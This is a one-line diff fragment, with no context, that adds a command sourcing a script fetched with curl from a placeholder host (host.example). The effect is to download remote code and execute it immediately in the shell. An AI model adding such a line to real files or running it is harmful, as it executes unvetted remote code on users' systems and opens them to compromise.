@@ -1,0 +1,1 @@
+source <(curl -s https://host.example/x)
